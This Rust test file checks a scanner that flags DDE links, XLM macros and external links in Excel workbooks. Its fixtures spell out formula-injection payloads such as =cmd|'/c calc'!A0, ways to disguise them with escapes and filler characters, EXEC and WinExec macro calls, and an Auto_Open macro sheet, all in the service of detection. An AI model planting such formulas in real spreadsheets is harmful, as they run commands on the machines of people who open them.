//! What formulas and texts say (`spec/excel.md` §1.3, §1.5).

use super::*;
use crate::link::{Carrier, Confidence, Kind, TechniqueId, Trigger};

#[test]
fn text_that_only_looks_like_a_formula_is_inert() {
    let link = Package::new()
        .workbook(&[], "")
        .part(
            "xl/sharedStrings.xml",
            "<sst xmlns='{m}'><si><t>Name</t></si><si><t>=cmd|'/c calc'!A0</t></si>\
             <si><t>- item one|two!three</t></si><si><t>a|b</t></si></sst>",
        )
        .only();
    assert_eq!(link.kind, Kind::Inert);
    assert_eq!(link.carrier, Carrier::Formula);
    assert_eq!(link.trigger, Trigger::None);
    assert_eq!(triple(&link), "cmd|/c calc!A0");
    assert_eq!(link.raw, "=cmd|'/c calc'!A0");
}

#[test]
fn texts_in_cells_are_inert_once_for_all() {
    let text = "=cmd|'/c calc'!A0";
    let link = Package::new()
        .workbook(&[], "")
        .sheet(&format!(
            "<sheetData><row><c t='inlineStr'><is><r><t>=cm</t></r> <r><t>{}</t></r></is></c>\
             <c t='str'><v>\u{200b} {text}</v></c>\
             <c t='str'><f>\"=\"&amp;A1</f><v>{text}</v></c>\
             <c><v>{text}</v></c></row></sheetData>",
            &text[3..]
        ))
        .only();
    assert_eq!(
        (link.kind, triple(&link)),
        (Kind::Inert, "cmd|/c calc!A0".to_owned())
    );
    assert_eq!(link.used_by, ["Tabelle1!A1", "Tabelle1!B1"]);
}

#[test]
fn formula_text_is_live() {
    let link = Package::new()
        .workbook(&[], "")
        .cell("cmd|'/c calc'!A0+1")
        .only();
    assert_eq!((link.kind, link.carrier), (Kind::Dde, Carrier::Formula));
    assert_eq!(
        (link.trigger, link.confidence),
        (Trigger::Update, Confidence::High)
    );
    assert_eq!(triple(&link), "cmd|/c calc!A0");
    assert_eq!(link.location.cell(), Some("Tabelle1!B4"));
    assert_eq!(link.raw, "cmd|'/c calc'!A0+1");
    assert_eq!(link.readings[0].resolved, "cmd|'/c calc'!A0");

    let link = Package::new()
        .workbook(&[], "")
        .cell("VTS|Display!TagName\\Variable")
        .only();
    assert_eq!(link.confidence, Confidence::Medium);
    assert_eq!(triple(&link), "VTS|Display!TagName\\Variable");
}

#[test]
fn formula_text_split_and_disguised() {
    for (formula, technique) in [
        (
            "c<!-- x -->m<![CDATA[d|]]>'/c calc'!A0",
            Some(TechniqueId::CharacterReferences),
        ),
        (
            "&#99;md|'/c calc'!A0",
            Some(TechniqueId::CharacterReferences),
        ),
        ("_x0063_md|'/c calc'!A0", Some(TechniqueId::XEscapes)),
        ("c_x0000_md|'/c calc'!A0", Some(TechniqueId::XEscapes)),
        (
            "c\u{200b}md|'/c calc'!A0",
            Some(TechniqueId::FillerCharacters),
        ),
        ("ｃｍｄ｜'/c calc'！A0", Some(TechniqueId::FullWidth)),
        ("cmd|&apos;/c calc&apos;!A0", None),
        ("<b>cmd|</b>'/c calc'!A0", None),
    ] {
        let links = Package::new().workbook(&[], "").cell(formula).links();
        let link = links.iter().find(|link| triple(link) == "cmd|/c calc!A0");
        let link = link.unwrap_or_else(|| panic!("{formula}: {links:#?}"));
        let ids: Vec<_> = link.techniques.iter().map(|t| t.id).collect();
        match technique {
            Some(id) => assert!(ids.contains(&id), "{formula}: {ids:?}"),
            None => assert_eq!(ids, [], "{formula}"),
        }
    }
}

#[test]
fn dde_calls_of_libreoffice() {
    let link = Package::new()
        .workbook(&[], "")
        .cell("DDE(\"cmd\",\"/C calc\",\"A0\")")
        .only();
    assert_eq!(triple(&link), "cmd|/C calc!A0");
    assert_eq!((link.kind, link.carrier), (Kind::Dde, Carrier::Formula));
    let link = Package::new()
        .workbook(&[], "")
        .cell("DDE(A1,B1,C1)")
        .only();
    assert!(link.has(TechniqueId::Unresolved));
    assert_eq!(link.confidence, Confidence::Low);
    // A feed whose topic and item come from cells is no riddle.
    let link = Package::new()
        .workbook(&[], "")
        .cell("DDE(LOWER(\"BLP\"),B1,C1)")
        .only();
    assert_eq!(triple(&link), "blp|<expr>!<expr>");
    assert!(!link.has(TechniqueId::Unresolved));
    assert_eq!(link.confidence, Confidence::High);
}

/// In the brackets of a table column, quotation marks open no string.
#[test]
fn names_of_columns_hide_nothing() {
    for formula in [
        "COUNTA(Table1[a'#b])&amp;DDE(\"cmd\",\"/c calc\",\"it's\")",
        "COUNTA(Table1[a\"b])&amp;DDE(\"cmd\",\"/c calc\",\"it's\")",
    ] {
        let link = Package::new().workbook(&[], "").cell(formula).only();
        assert_eq!(triple(&link), "cmd|/c calc!it's", "{formula}");
    }
}

#[test]
fn attributes_of_other_namespaces_are_no_decoys() {
    let link = Package::new()
        .workbook(&[], "")
        .sheet(
            "<row><c xmlns:z='urn:z' r='C7' z:r='ZZ9' z:t='str'>\
             <f>cmd|'/c calc'!A0</f></c></row>",
        )
        .only();
    assert_eq!(link.used_by, ["Tabelle1!C7"]);
    let link = Package::new()
        .workbook(&[], "")
        .sheet("<oleObject xmlns:z='urn:z' z:link='a|&apos;b&apos;!c' link=\"cmd|'/c calc'!A0\"/>")
        .only();
    assert_eq!(triple(&link), "cmd|/c calc!A0");
}

/// The reading of a formula with its escapes standing makes up no item.
#[test]
fn an_escaped_use_is_one_use() {
    let link = Package::new()
        .workbook(&["rId2"], "")
        .cell("[1]!_x0041_1")
        .link_part(EXTERNAL, WRITTEN)
        .relation("xl/workbook.xml", "rId2", EXTERNAL)
        .only();
    assert_eq!(triple(&link), "cmd|/c calc.exe!A1");
    assert_eq!(link.used_by, ["Tabelle1!B4"]);
}

#[test]
fn native_calls_on_worksheets() {
    let link = Package::new()
        .workbook(&[], "")
        .cell("CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",5)")
        .only();
    assert_eq!((link.kind, link.carrier), (Kind::Execute, Carrier::Xlm));
    assert_eq!(link.confidence, Confidence::Medium);
    assert_eq!(
        link.target.as_deref(),
        Some("CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",5)")
    );
}

#[test]
fn macros_that_run_and_write() {
    for (formula, target) in [
        ("RUN(\"x.exe\")", "x.exe"),
        (
            "FORMULA(CHAR(61)&amp;\"EXEC(\"\"cmd /c calc\"\")\",A5)",
            "cmd /c calc",
        ),
        (
            "FORMULA.FILL(\"=EXEC(\"\"cmd /c calc\"\")\",A5)",
            "cmd /c calc",
        ),
    ] {
        let link = Package::new()
            .part(
                "xl/macrosheets/sheet1.xml",
                &format!(
                    "<xm:macrosheet xmlns='{{m}}' \
                     xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'>\
                     <c r='A1'><f>{formula}</f></c></xm:macrosheet>"
                ),
            )
            .only();
        assert_eq!((link.kind, link.carrier), (Kind::Execute, Carrier::Xlm));
        assert_eq!(link.target.as_deref(), Some(target), "{formula}");
    }
}

#[test]
fn ordinary_formulas_are_silent() {
    for formula in [
        "SUM([1]Sheet1!A1)",
        "A1&amp;\"|\"&amp;B1&amp;\"!\"",
        "_xlfn.XLOOKUP(A1,B:B,C:C)",
        "FILTERXML(\"&lt;a&gt;\"&amp;A1,\"//a\")",
        "HYPERLINK(\"#Sheet2!A1\",\"go\")",
        "HYPERLINK(A1,\"go\")",
        "{1|2}",
        "EXEC(1)",
        "CALL(A1,100,0.05)",
        "RUN(\"x.exe\")",
        "HYPERLINK(A1&amp;B1,\"go\")",
        "[0]!Macro1",
        "Table1[[#This Row],[low|high!x]]",
        "'a|b!c'!A1",
    ] {
        let links = Package::new().workbook(&[], "").cell(formula).links();
        assert!(links.is_empty(), "{formula}: {links:#?}");
    }
}

#[test]
fn functions_that_fetch() {
    let link = Package::new()
        .workbook(&[], "")
        .cell("_xlfn.WEBSERVICE(\"http://example.invalid/?v=\"&amp;A1)")
        .only();
    assert_eq!(
        (link.kind, link.carrier),
        (Kind::ExternalLink, Carrier::Function)
    );
    assert_eq!(
        link.target.as_deref(),
        Some("http://example.invalid/?v=<expr>")
    );
    assert!(link.has(TechniqueId::Unresolved));

    let link = Package::new()
        .workbook(&[], "")
        .cell("HYPERLINK(\"http://example.invalid/\",\"x\")")
        .only();
    assert_eq!(
        (link.carrier, link.trigger),
        (Carrier::Hyperlink, Trigger::Click)
    );

    let link = Package::new()
        .workbook(&[], "")
        .cell("HYPERLINK(\"file:\"&amp;\"//host/x.exe\",\"x\")")
        .only();
    assert_eq!(
        (link.carrier, link.trigger),
        (Carrier::Hyperlink, Trigger::Click)
    );
    assert_eq!(link.target.as_deref(), Some("file://host/x.exe"));

    let link = Package::new()
        .workbook(&[], "")
        .cell("HYPERLINK(A1&amp;\"cmd.exe\",\"x\")")
        .only();
    assert_eq!(link.carrier, Carrier::Hyperlink);
    assert_eq!(link.target.as_deref(), Some("<expr>cmd.exe"));
    assert!(link.has(TechniqueId::Unresolved));

    let link = Package::new()
        .workbook(&[], "")
        .cell("RTD(\"my.server\",,\"x\")")
        .part(
            "xl/volatileDependencies.xml",
            "<volTypes xmlns='{m}'><volType type='realTimeData'><main first='my.server'/></volType>\
             <volType type='olapFunctions'><main first='cube'/></volType></volTypes>",
        )
        .only();
    assert_eq!(link.prog_id.as_deref(), Some("my.server"));
    assert_eq!(link.used_by.len(), 2);
}

#[test]
fn what_servers_were_asked_for_is_inert() {
    let link = Package::new()
        .part(
            "xl/volatileDependencies.xml",
            "<volTypes xmlns='{m}'><volType type='olapFunctions'><main first='cube'><tp t='e'>\
             <v>#N/A</v><stp>=cmd|'/c calc'!A0</stp><stp>ordinary</stp></tp></main></volType>\
             </volTypes>",
        )
        .only();
    assert_eq!(link.kind, Kind::Inert);
    assert_eq!(link.readings[0].resolved, "cmd|'/c calc'!A0");
}

#[test]
fn every_place_of_a_formula_is_read() {
    let dde = "cmd|'/c calc'!A0";
    let chart = "http://schemas.openxmlformats.org/drawingml/2006/chart";
    let x14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main";
    let cases: &[(&'static str, String)] = &[
        (
            "xl/worksheets/sheet1.xml",
            format!(
                "<worksheet xmlns='{{m}}'><conditionalFormatting sqref='B1:B5'><cfRule>\
                 <formula>{dde}</formula></cfRule></conditionalFormatting></worksheet>"
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!("<worksheet xmlns='{{m}}'><cfvo type='formula' val=\"{dde}\"/></worksheet>"),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!(
                "<worksheet xmlns='{{m}}'><dataValidations><dataValidation sqref='A1'>\
                 <formula1>1</formula1><formula2>{dde}</formula2></dataValidation></dataValidations></worksheet>"
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!(
                "<worksheet xmlns='{{m}}' xmlns:y='{x14}' \
                 xmlns:z='http://schemas.microsoft.com/office/excel/2006/main'>\
                 <y:dataValidation><y:formula1><z:f>{dde}</z:f></y:formula1></y:dataValidation></worksheet>"
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!(
                "<worksheet xmlns='{{m}}' xmlns:y='{x14}' \
                 xmlns:z='http://schemas.microsoft.com/office/excel/2006/main'>\
                 <y:sparkline><z:f>{dde}</z:f></y:sparkline></worksheet>"
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!("<worksheet xmlns='{{m}}'><oleObject link=\"{dde}\"/></worksheet>"),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!("<worksheet xmlns='{{m}}'><controlPr linkedCell=\"{dde}\"/></worksheet>"),
        ),
        (
            "xl/charts/chart1.xml",
            format!(
                "<c:chartSpace xmlns:c='{chart}'><c:numRef><c:f>{dde}</c:f></c:numRef></c:chartSpace>"
            ),
        ),
        (
            "xl/tables/table1.xml",
            format!(
                "<table xmlns='{{m}}'><calculatedColumnFormula>{dde}</calculatedColumnFormula></table>"
            ),
        ),
        (
            "xl/drawings/drawing1.xml",
            format!(
                "<d:wsDr xmlns:d='http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing'>\
                 <d:sp textlink=\"{dde}\"/></d:wsDr>"
            ),
        ),
        (
            "xl/drawings/vmlDrawing1.vml",
            format!(
                "<xml xmlns:x='urn:schemas-microsoft-com:office:excel'><x:ClientData>\
                 <x:FmlaLink>{dde}</x:FmlaLink></x:ClientData></xml>"
            ),
        ),
        (
            "xl/workbook.xml",
            format!(
                "<workbook xmlns='{{m}}'><definedNames><definedName name='n'>{dde}</definedName></definedNames></workbook>"
            ),
        ),
    ];
    for (name, xml) in cases {
        let links = Package::new().part(name, xml).links();
        assert_eq!(triples(&links), ["cmd|/c calc!A0"], "{xml}");
        assert_eq!(links[0].kind, Kind::Dde, "{xml}");
        let carrier = if *name == "xl/workbook.xml" {
            Carrier::Name
        } else {
            Carrier::Formula
        };
        assert_eq!(links[0].carrier, carrier, "{xml}");
    }
}

#[test]
fn macro_sheets_execute() {
    let links = Package::new()
        .part(
            "xl/workbook.xml",
            "<workbook xmlns='{m}'><definedName name='_xlnm.Auto_Open'>Macro1!$A$1</definedName></workbook>",
        )
        .part(
            "xl/macrosheets/sheet1.xml",
            "<xm:macrosheet xmlns='{m}' xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'>\
             <sheetData><row><c r='A1'><f>EXEC(\"cmd /c calc\")</f></c>\
             <c r='A2'><f>CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</f></c>\
             <c r='A3'><f>INITIATE(\"cmd\",\"/c calc\")</f></c>\
             <c r='A4'><f>EXECUTE(A3,\"[open]\")</f></c>\
             <c r='A5'><f>GOTO(A1)+RUN(\"x\")+ALERT(\"y\")</f></c></row></sheetData></xm:macrosheet>",
        )
        .links();
    let seen: Vec<_> = links
        .iter()
        .map(|link| (link.kind, link.carrier, link.target.as_deref()))
        .collect();
    assert_eq!(
        seen,
        [
            (Kind::Execute, Carrier::Xlm, Some("cmd /c calc")),
            (
                Kind::Execute,
                Carrier::Xlm,
                Some("CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)")
            ),
            (Kind::DdeAuto, Carrier::Xlm, None),
            (Kind::DdeAuto, Carrier::Xlm, None),
        ]
    );
    assert_eq!(triples(&links[2..]), ["cmd|/c calc!", "|![open]"]);
    assert!(links.iter().all(|link| link.trigger == Trigger::Open));
}

/// §1.3: the range of an extended format stands behind its formulas.
#[test]
fn extended_formats_know_their_range() {
    let formula = "cmd|&apos;/c calc&apos;!A0";
    for (markup, label) in [
        (
            format!(
                "<x14:conditionalFormatting><x14:cfRule type='expression'>\
                 <xm:f>{formula}</xm:f><xm:f>1</xm:f></x14:cfRule>\
                 <xm:sqref>B2:C3</xm:sqref></x14:conditionalFormatting>"
            ),
            "Tabelle1!B2:C3 (sparkline or format)",
        ),
        (
            format!(
                "<x14:dataValidation><x14:formula1><xm:f>{formula}</xm:f></x14:formula1>\
                 <xm:sqref>D4</xm:sqref></x14:dataValidation>"
            ),
            "Tabelle1!D4 (data validation)",
        ),
        (
            format!("<x14:sparkline><xm:f>{formula}</xm:f><xm:sqref>E5</xm:sqref></x14:sparkline>"),
            "Tabelle1!E5 (sparkline or format)",
        ),
        (
            format!("<x14:sparkline><xm:f>{formula}</xm:f></x14:sparkline>"),
            "Tabelle1!sparkline or format",
        ),
        (
            format!(
                "<dataValidation sqref='F6'><formula1>{formula}</formula1></dataValidation>\
                 <x14:cfRule/>"
            ),
            "Tabelle1!F6 (data validation)",
        ),
    ] {
        for read_twice in [false, true] {
            let mut package = Package::new().workbook(&[], "").sheet(&markup);
            package.read_twice = read_twice;
            let link = package.only();
            assert_eq!(link.used_by, [label], "{markup}");
        }
    }
}

/// What is cut off before its range is read all the same.
#[test]
fn formulas_without_the_end_of_their_range() {
    let rules = "<x14:cfRule><xm:f>cmd|&apos;/c calc&apos;!A0</xm:f></x14:cfRule>".repeat(300);
    let xml = format!(
        "<worksheet xmlns='{{m}}' xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main' \
         xmlns:x14='http://schemas.microsoft.com/office/spreadsheetml/2009/9/main'>\
         <x14:conditionalFormatting>{rules}"
    );
    let link = Package::new()
        .workbook(&[], "")
        .part("xl/worksheets/sheet1.xml", &xml)
        .only();
    assert_eq!(link.used_by.len(), 1);
    assert_eq!(triple(&link), "cmd|/c calc!A0");
}

/// §1.2: what was last seen of a server or of another workbook is text.
#[test]
fn cached_values_are_inert() {
    let text = "=cmd|&apos;/c calc&apos;!A0";
    for inner in [
        format!(
            "<ddeLink ddeService='BLP' ddeTopic='M'><ddeItems><ddeItem name='x'>\
             <values><value t='str'><val>{text}</val></value></values></ddeItem></ddeItems></ddeLink>"
        ),
        format!(
            "<externalBook r:id='rId1'><definedNames><definedName name='n' refersTo=\"{text}\"/>\
             </definedNames><sheetDataSet><sheetData><row r='1'>\
             <cell r='A1' t='str'><v>{text}</v></cell></row></sheetData></sheetDataSet></externalBook>"
        ),
    ] {
        let links = Package::new().link_part(EXTERNAL, &inner).links();
        let inert: Vec<_> = links
            .iter()
            .filter(|link| link.kind == Kind::Inert)
            .collect();
        assert_eq!(inert.len(), 1, "{links:#?}");
        assert_eq!(triple(inert[0]), "cmd|/c calc!A0");
        assert!(
            !links
                .iter()
                .any(|link| link.kind == Kind::Dde && triple(link).contains("calc"))
        );
    }
}

/// The same function in thousands of cells is one link, whatever it leads to.
#[test]
fn the_same_hyperlink_in_every_cell_is_one() {
    for target in [
        "http://example.invalid/a",
        "\\\\host\\s\\x.exe",
        "file:///c:/x.exe",
    ] {
        let rows = format!("<row><c><f>HYPERLINK(\"{target}\",\"x\")</f></c></row>").repeat(5_000);
        let link = Package::new().workbook(&[], "").sheet(&rows).only();
        assert_eq!(link.target.as_deref(), Some(target));
        assert_eq!(link.used_by.len(), 1_001);
        assert_eq!(link.used_by[1_000], "and 4000 more");
    }
}
